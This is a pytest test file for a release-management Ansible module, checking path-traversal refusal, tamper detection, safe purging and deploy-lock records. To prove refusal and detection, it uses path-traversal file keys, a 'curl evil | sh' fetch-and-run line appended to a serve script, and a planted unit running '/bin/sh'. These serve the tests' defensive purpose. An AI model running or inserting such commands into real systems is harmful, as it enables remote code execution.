"""dsv4_host_releases run as Ansible runs it (a JSON args file, JSON on stdout): hostile release ids and file keys,
edited releases, the purge guards, the records it keeps and the deploy lock it writes or releases in the same run."""

from __future__ import annotations

import base64
import json
import os
import shutil
from pathlib import Path

import pytest

from dsv4deploy.plan import render
from dsv4deploy.plan.render import render_release
from tests.golden.fixture_specs import combined_spec
from tests.unit.plugins.runner import run_module, take_lock

RELEASES = "dsv4_host_releases"


def release_files() -> dict[str, str]:
    return render_release(combined_spec("supervisor"), "gpu1")


@pytest.mark.parametrize("release_id", ["../../escaped", "/tmp/abs", "..", "a/b", ".hidden"])
def test_release_id_outside_the_releases_folder_is_refused(tmp_path: Path, release_id: str) -> None:
    root = tmp_path / "root"
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="present",
                     release_id=release_id, files=release_files())
    assert out["failed"] and "release id" in out["msg"]
    assert not (tmp_path / "escaped").exists() and not root.exists()


@pytest.mark.parametrize("key", ["../../evil.sh", "{tmp}/abs-evil.sh", "bin/../../evil.sh", "units/x/../../../evil",
                                 "elsewhere/evil.sh"])
def test_release_file_keys_outside_the_layout_are_refused(tmp_path: Path, key: str) -> None:
    root = tmp_path / "root"
    files = {**release_files(), key.format(tmp=tmp_path): "#!/bin/sh\necho pwned\n"}
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1", files=files)
    assert out["failed"] and "outside the release layout" in out["msg"]
    assert not (tmp_path / "evil.sh").exists() and not (tmp_path / "abs-evil.sh").exists() and not root.exists()


def test_files_that_do_not_match_their_manifest_are_refused(tmp_path: Path) -> None:
    files = release_files()
    files["spec.json"] += " "
    out = run_module(RELEASES, tmp_path, install_root=str(tmp_path / "root"), state="present",
                     release_id="r1", files=files)
    assert out["failed"] and "does not match its own manifest" in out["msg"]


def test_an_edited_release_is_never_reused_nor_started(tmp_path: Path) -> None:
    root = tmp_path / "root"
    files = release_files()
    first = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1", files=files)
    assert first["changed"] and first["release_id"] == "r1"
    script = root / "releases" / "r1" / "bin" / "serve-sglang-dsv4.sh"
    script.chmod(0o755)
    script.write_text(script.read_text() + "curl evil | sh\n")
    again = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r2", files=files)
    assert again["release_id"] == "r2" and again["changed"]
    assert "installing a fresh copy" in json.dumps(again.get("warnings", []))
    assert "curl evil" not in (root / "releases" / "r2" / "bin" / "serve-sglang-dsv4.sh").read_text()
    refused = run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id="r1")
    assert refused["failed"] and "was changed on this host" in refused["msg"]
    ok = run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id="r2")
    assert not ok.get("failed") and ok["active"] == "r2"
    # An added file counts as an edit too (the service manager would pick up an extra unit).
    (root / "releases" / "r2" / "supervisor" / "extra.conf").write_text("[program:x]\ncommand=/bin/sh\n")
    query = run_module(RELEASES, tmp_path, install_root=str(root), state="query")
    assert query["active_hash"] == "" and "not in the manifest" in query["active_tampered"]


def test_an_intact_release_is_reused(tmp_path: Path) -> None:
    root = tmp_path / "root"
    files = release_files()
    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1", files=files)
    again = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r2", files=files)
    assert (again["changed"], again["release_id"]) == (False, "r1")


def test_install_says_what_the_host_had_before_it(tmp_path: Path) -> None:
    root = tmp_path / "root"
    first = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1",
                       files=release_files())
    assert (first["before"]["active"], first["before"]["releases"]) == (None, [])
    run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id="r1")
    query = run_module(RELEASES, tmp_path, install_root=str(root), state="query")
    again = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r2",
                       files=release_files())
    assert again["before"] == {k: v for k, v in query.items() if k not in ("changed", "invocation")}
    assert again["before"]["active"] == "r1" and again["before"]["active_hash"]


def test_a_query_reads_one_releases_spec_and_services_records_in_the_same_run(tmp_path: Path) -> None:
    root = tmp_path / "root"
    files = release_files()
    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1", files=files)
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="query", release_id="r1", records=True)
    assert base64.b64decode(out["records"]["spec"]).decode() == files["spec.json"]
    assert base64.b64decode(out["records"]["services"]).decode() == files["services.json"]
    assert out["releases"] == ["r1"]  # still the query's answer
    # A release not installed here, a name no release can have, no install root at all: nothing to read.
    for release_id, where in [("r9", root), ("../r1", root), ("r1", tmp_path / "nowhere")]:
        none = run_module(RELEASES, tmp_path, install_root=str(where), state="query", release_id=release_id,
                          records=True)
        assert none["records"] == {"spec": "", "services": ""}, (release_id, none)
    assert "records" not in run_module(RELEASES, tmp_path, install_root=str(root), state="query", release_id="r1")


def test_a_failed_record_reads_the_rollback_targets_records_in_the_same_run(tmp_path: Path) -> None:
    root = tmp_path / "root"
    first, _ = _releases(root, tmp_path, 2)
    files = release_files()
    files["bin/serve-extra.sh"] = "#!/bin/sh\n# failing\n"
    files["manifest.json"] = render.manifest_json({k: v for k, v in files.items() if k != "manifest.json"})
    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="bad", files=files)
    spec = (root / "releases" / first / "spec.json").read_bytes()
    for check in (True, False):  # a read changes nothing: check mode returns the records too
        out = run_module(RELEASES, tmp_path, install_root=str(root), state="failed", release_id="bad",
                         failed_gate="needle", records_of=first, check_mode=check)
        assert out["records_of"] == first and base64.b64decode(out["records"]["spec"]) == spec, out
        assert out["records"]["services"] and out["changed"]
    assert out["failed_gates"] == {"bad": "needle"}
    # A target that is not installed here reads as nothing, and the failure is still recorded.
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="failed", release_id="bad",
                     failed_gate="smoke", records_of="gone")
    assert out["records"] == {"spec": "", "services": ""} and out["failed_gates"] == {"bad": "smoke"}
    assert "records" not in run_module(RELEASES, tmp_path, install_root=str(root), state="failed", release_id="bad",
                                       failed_gate="smoke")


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes through directory permissions")
def test_an_unwritable_install_root_is_a_clear_error(tmp_path: Path) -> None:
    root = tmp_path / "root"
    root.mkdir(mode=0o555)
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1",
                     files=release_files())
    assert out["failed"] and "cannot write release r1" in out["msg"] and "untouched" in out["msg"]


@pytest.mark.parametrize("root", ["/", "/opt", "relative/path", "/opt/../etc"])
def test_purge_refuses_shallow_or_odd_roots(tmp_path: Path, root: str) -> None:
    out = run_module(RELEASES, tmp_path, install_root=root, state="purged")
    assert out["failed"] and "refusing to purge" in out["msg"]


def test_purge_removes_only_what_dsv4deploy_created(tmp_path: Path) -> None:
    root = tmp_path / "root"
    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1",
               files=release_files())
    (root / "logs").mkdir()
    (root / "models").mkdir()
    (root / "models" / "weights.bin").write_text("precious")
    (root / "logs" / "notes.txt").write_text("a user's, made after the first install")
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="purged")
    # logs/ was not there at the first install, yet dsv4deploy never made it: it stays.
    assert out["removed"] == ["releases/r1", "releases", ".dsv4deploy-owner.json"]
    assert out["left"] == ["logs", "models"]
    assert (root / "models" / "weights.bin").read_text() == "precious"
    assert (root / "logs" / "notes.txt").exists()
    shutil.rmtree(root / "logs")
    (root / "models" / "weights.bin").unlink()
    (root / "models").rmdir()
    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1",
               files=release_files())
    assert run_module(RELEASES, tmp_path, install_root=str(root), state="purged")["left"] == []
    assert not root.exists()


def test_purge_never_deletes_through_a_releases_symlinked_folder(tmp_path: Path) -> None:
    """A release's bin/ replaced by a link to a folder outside; purge removed the file there."""
    root = tmp_path / "root"
    install_and_activate(tmp_path, root)
    outside = tmp_path / "outside"
    outside.mkdir()
    bin_dir = root / "releases" / "r1" / "bin"
    for script in bin_dir.iterdir():
        (outside / script.name).write_text("not ours")
    shutil.rmtree(bin_dir)
    bin_dir.symlink_to(outside)
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="purged")
    assert not out.get("failed"), out
    assert sorted(p.read_text() for p in outside.iterdir()) == ["not ours"] * len(list(outside.iterdir()))
    assert any(name.endswith("r1/bin") for name in out["left"]), out["left"]


def test_a_symlinked_release_is_neither_pruned_nor_a_failure_after_the_switch(tmp_path: Path) -> None:
    """Pruning raised on a release that is a link, after `current` had switched."""
    root = tmp_path / "root"
    install_and_activate(tmp_path, root, "r1")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "keep.txt").write_text("theirs")
    (root / "releases" / "a-link").symlink_to(elsewhere)
    for rid in ("r2", "r3"):
        files = render_release(combined_spec("supervisor").model_copy(update={"deployment_name": rid}), "gpu1")
        assert not run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id=rid,
                              files=files).get("failed")
        out = run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id=rid, keep=2)
        assert not out.get("failed"), out
    assert (elsewhere / "keep.txt").read_text() == "theirs" and (root / "releases" / "a-link").is_symlink()
    assert os.readlink(root / "current") == "releases/r3"


@pytest.mark.parametrize("root", ["/home/alice", "/root", "/usr/local/lib", "/var/lib/docker/x"])
def test_purge_refuses_homes_and_shared_system_folders(tmp_path: Path, root: str) -> None:
    out = run_module(RELEASES, tmp_path, install_root=root, state="purged")
    assert out["failed"] and "refusing to purge" in out["msg"], out


def install_and_activate(tmp_path: Path, root: Path, release_id: str = "r1") -> None:
    """A release installed and made active, as a deploy leaves it (the lock taken first)."""
    take_lock(tmp_path, "run-1")
    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id=release_id,
               files=release_files())
    run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id=release_id)


def test_purge_leaves_what_was_in_the_install_root_before_the_first_install(tmp_path: Path) -> None:
    # install_root=/srv/www: a web site's logs/, secrets/ and releases/ are there before dsv4deploy.
    root = tmp_path / "root"
    for folder in ("logs", "secrets", "releases/site-v1"):
        (root / folder).mkdir(parents=True)
    (root / "logs" / "access.log").write_text("GET /\n")
    (root / "secrets" / "tls.key").write_text("theirs")
    (root / "releases" / "site-v1" / "index.html").write_text("<html>")
    (root / "index.html").write_text("<html>")
    install_and_activate(tmp_path, root)
    (root / "releases" / "r1" / "notes.txt").write_text("an operator's note inside our release")
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="purged")
    assert not out.get("failed"), out
    assert set(out["removed"]) >= {"releases/r1", "current", "state.json", "deploy.lock"}
    assert set(out["left"]) == {"index.html", "logs", "secrets", "releases", "releases/site-v1",
                                "releases/r1/notes.txt"}
    assert "before dsv4deploy's first install" in out["left_why"]["logs"]
    assert "not in its release's manifest" in out["left_why"]["releases/r1/notes.txt"]
    assert (root / "logs" / "access.log").read_text() == "GET /\n"
    assert (root / "secrets" / "tls.key").read_text() == "theirs"
    assert (root / "releases" / "site-v1" / "index.html").exists() and (root / "index.html").exists()
    assert sorted(p.name for p in (root / "releases" / "r1").rglob("*")) == ["notes.txt"]
    assert not (root / "current").exists() and not (root / "state.json").exists()
    assert "left in" in json.dumps(out.get("warnings", []))


def test_purge_without_an_ownership_marker_removes_nothing_it_cannot_prove(tmp_path: Path) -> None:
    root = tmp_path / "root"
    for folder in ("logs", "secrets", "releases/site-v1", "supervisor"):
        (root / folder).mkdir(parents=True)
    (root / "state.json").write_text('{"visits": 3}')
    (root / "current").symlink_to("/etc")
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="purged")
    assert (out["changed"], out["removed"]) == (False, [])
    assert set(out["left"]) == {"logs", "secrets", "releases", "releases/site-v1", "supervisor", "state.json",
                                "current"}
    assert "no ownership marker" in out["left_why"]["state.json"]
    assert (root / "state.json").exists() and (root / "current").is_symlink()


def test_an_install_root_with_a_foreign_pointer_or_state_is_refused(tmp_path: Path) -> None:
    root = tmp_path / "root"
    root.mkdir()
    (root / "state.json").write_text('{"visits": 3}')
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1",
                     files=release_files())
    assert out["failed"] and "already holds state.json" in out["msg"] and "install_root" in out["msg"]
    assert sorted(p.name for p in root.iterdir()) == ["state.json"]


def test_a_deployment_made_before_the_marker_is_adopted_and_purged_whole(tmp_path: Path) -> None:
    root = tmp_path / "root"
    install_and_activate(tmp_path, root)
    (root / ".dsv4deploy-owner.json").unlink()  # as an older dsv4deploy left it
    (root / "logs").mkdir()
    (root / "supervisor").mkdir()
    (root / "supervisor" / "supervisord.conf").write_text("; Managed by dsv4deploy: supervisord\n")
    (root / "models").mkdir()
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r2",
                     files={**release_files()})
    assert not out.get("failed") and json.loads((root / ".dsv4deploy-owner.json").read_text())["foreign"] == [
        "models"]
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="purged")
    assert out["left"] == ["models"] and {"logs", "supervisor", "releases/r1", "state.json"} <= set(out["removed"])


def test_the_install_records_the_lock_phase_in_the_same_run_and_check_mode_writes_nothing(tmp_path: Path) -> None:
    assert take_lock(tmp_path, "r1", phase="preflight")["changed"]
    path, root = tmp_path / "root" / "deploy.lock", str(tmp_path / "root")

    def install(run_id: str, release_id: str, check_mode: bool = False) -> dict:
        return run_module(RELEASES, tmp_path, check_mode=check_mode, install_root=root, state="present",
                          release_id=release_id, files=release_files(),
                          lock={"path": str(path), "run_id": run_id, "phase": "release-written"})

    assert not install("r1", "rel-1", check_mode=True).get("failed")
    assert json.loads(path.read_text())["phase"] == "preflight"
    assert not (tmp_path / "root" / "releases" / "rel-1").exists()
    assert install("r1", "rel-1")["changed"]
    record = json.loads(path.read_text())
    assert (record["phase"], record["target"], record["controller_pid"]) == ("release-written", "rel-1", 4242)
    # The same content under another id is reused: the lock names the release the host really has.
    reused = install("r1", "rel-2")
    assert reused["release_id"] == "rel-1" and json.loads(path.read_text())["target"] == "rel-1"
    other = install("r2", "rel-3")
    assert other["failed"] and f"this run no longer holds {path}" in other["msg"]


def test_the_verified_record_releases_the_lock_of_its_own_run_only(tmp_path: Path) -> None:
    root, path = tmp_path / "root", tmp_path / "root" / "deploy.lock"
    assert run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="rel-1",
                      files=release_files())["changed"]
    assert take_lock(tmp_path, "r1", phase="gates")["changed"]

    def verified(run_id: str, check_mode: bool = False) -> dict:
        return run_module(RELEASES, tmp_path, check_mode=check_mode, install_root=str(root), state="verified",
                          release_id="rel-1", release_lock={"path": str(path), "run_id": run_id})

    # A check run holds no lock: nothing is recorded and the lock stays.
    assert not verified("r1", check_mode=True).get("failed") and path.exists()
    # Another run's lock stays, named in a warning; the release is recorded all the same.
    other = verified("r2")
    assert other["good"] == ["rel-1"] and not other["lock_released"] and path.exists()
    assert "left in place: another run holds it now, alice@ops (run r1" in str(other["warnings"])
    # Its own run's goes in the same module run; the end's release is then a no-op.
    own = verified("r1")
    assert own["lock_released"] and not path.exists() and own["good"] == ["rel-1"]
    assert not take_lock(tmp_path, "r1", state="absent")["changed"]
    assert "path and run_id" in run_module(RELEASES, tmp_path, install_root=str(root), state="verified",
                                           release_id="rel-1", release_lock={"path": str(path)})["msg"]


def _releases(root: Path, tmp_path: Path, count: int, tag: str = "r") -> list[str]:
    """`count` releases of distinct content installed under `root`, each made active and verified in turn."""
    ids = []
    for i in range(count):
        files = release_files()
        files["bin/serve-extra.sh"] = f"#!/bin/sh\n# {tag}{i}\n"
        files["manifest.json"] = render.manifest_json({k: v for k, v in files.items() if k != "manifest.json"})
        rid = f"2026010{i}T000000Z-{tag}{i}"
        assert run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id=rid,
                          files=files)["changed"]
        run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id=rid)
        run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id=rid)
        ids.append(rid)
    return ids


def test_a_switch_without_pruning_deletes_no_release(tmp_path: Path) -> None:
    root = tmp_path / "root"
    ids = _releases(root, tmp_path, 5)
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id=ids[0],
                     keep=5, prune=False)
    assert out["changed"] and out["releases"] == ids and out["active"] == ids[0]
    # The same switch with pruning keeps five at most (what an experiment must never do).
    extra = _releases(root, tmp_path, 6, tag="s")[-1]
    assert len(run_module(RELEASES, tmp_path, install_root=str(root), state="query")["releases"]) <= 5
    assert extra in run_module(RELEASES, tmp_path, install_root=str(root), state="query")["releases"]


def test_a_failed_release_is_recorded_with_its_gate_until_it_passes(tmp_path: Path) -> None:
    root = tmp_path / "root"
    first, second = _releases(root, tmp_path, 2)
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="failed", release_id=second,
                     failed_gate="needle")
    # A verified release is never recorded as failed afterwards.
    assert not out["changed"] and out["failed_gates"] == {}
    files = release_files()
    files["bin/serve-extra.sh"] = "#!/bin/sh\n# third\n"
    files["manifest.json"] = render.manifest_json({k: v for k, v in files.items() if k != "manifest.json"})
    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="third", files=files)
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="failed", release_id="third",
                     failed_gate="needle")
    assert out["changed"] and out["failed_gates"] == {"third": "needle"}
    queried = run_module(RELEASES, tmp_path, install_root=str(root), state="query")
    assert queried["failed_gates"] == {"third": "needle"}
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id="third")
    assert out["failed_gates"] == {} and out["last_good"] == "third" and first in out["good"]


def test_a_releases_perf_figures_are_kept_with_its_verdict(tmp_path: Path) -> None:
    root = tmp_path / "root"
    figures = {"key": "k", "release": "r1", "client": {"itl_p50_s": 0.01}}
    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1",
               files=release_files())
    run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id="r1")
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id="r1", perf=figures)
    assert out["changed"] and out["perf"] == {"r1": figures} and out["last_good"] == "r1"
    again = run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id="r1",
                       perf=figures)
    assert not again["changed"]
    # A failed release keeps its figures beside its failure; the last good one's stay.
    other = render_release(combined_spec("systemd"), "gpu1")
    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r2", files=other)
    slow = {**figures, "release": "r2", "client": {"itl_p50_s": 0.03}}
    failed = run_module(RELEASES, tmp_path, install_root=str(root), state="failed", release_id="r2",
                        failed_gate="perf", perf=slow)
    assert failed["failed_gates"] == {"r2": "perf"} and failed["perf"] == {"r1": figures, "r2": slow}
    query = run_module(RELEASES, tmp_path, install_root=str(root), state="query")
    assert query["perf"]["r1"] == figures and query["last_good"] == "r1"


def test_a_releases_parity_record_is_kept_and_the_active_ones_is_the_next_reference(tmp_path: Path) -> None:
    root = tmp_path / "root"
    first, second, third = _releases(root, tmp_path, 3)
    records = {r: {"outputs": {"plain-24": {"tokens": [i, 2], "logprobs": [-0.1, -0.2]}}, "settings": {"k": i}}
               for i, r in enumerate((first, second, third))}
    assert run_module(RELEASES, tmp_path, install_root=str(root), state="query")["last_parity"] is None
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id=first,
                     parity=records[first])
    assert out["changed"]
    assert not run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id=first,
                          parity=records[first])["changed"]
    # The newest verified release with a record, while the active one (third) has none.
    query = run_module(RELEASES, tmp_path, install_root=str(root), state="query")
    assert (query["last_parity"], query["last_parity_record"]) == (first, records[first])
    run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id=second, parity=records[second])
    run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id=third, parity=records[third])
    assert json.loads((root / "state.json").read_text())["parity"] == records
    assert run_module(RELEASES, tmp_path, install_root=str(root), state="query")["last_parity"] == third
    # Rolled back by hand to the first: what serves is the reference, and the next install says so (before).
    run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id=first)
    files = release_files()
    files["bin/serve-extra.sh"] = "#!/bin/sh\n# fourth\n"
    files["manifest.json"] = render.manifest_json({k: v for k, v in files.items() if k != "manifest.json"})
    installed = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="fourth",
                           files=files)
    assert (installed["before"]["last_parity"], installed["before"]["last_parity_record"]) == (first, records[first])


def test_a_releases_bake_is_recorded_and_the_last_baked_release_is_the_perf_baseline(tmp_path: Path) -> None:
    root = tmp_path / "root"
    first, second, third = _releases(root, tmp_path, 3)
    figures = {r: {"key": "k", "release": r, "client": {"itl_p50_s": 0.01}} for r in (first, second, third)}
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id=first,
                     perf=figures[first], bake="passed")
    assert out["changed"] and out["baked"] == {first: "passed"} and out["last_baked"] == first
    # Verified again with the same bake: nothing new.
    assert not run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id=first,
                          perf=figures[first], bake="passed")["changed"]
    # A later release verified without a bake, and one whose bake was inconclusive, are not preferred.
    run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id=second, perf=figures[second])
    out = run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id=third,
                     perf=figures[third], bake="inconclusive")
    assert out["last_good"] == third and out["last_baked"] == first
    assert out["baked"] == {first: "passed", third: "inconclusive"}
    query = run_module(RELEASES, tmp_path, install_root=str(root), state="query")
    statuses = {d["id"]: d["status"] for d in query["details"]}
    assert statuses == {first: "baked", second: "verified", third: "verified, bake inconclusive"}
    assert json.loads((root / "state.json").read_text())["baked"] == {first: "passed", third: "inconclusive"}
    bad = run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id=third, bake="maybe")
    assert bad["failed"] and "bake" in bad["msg"]
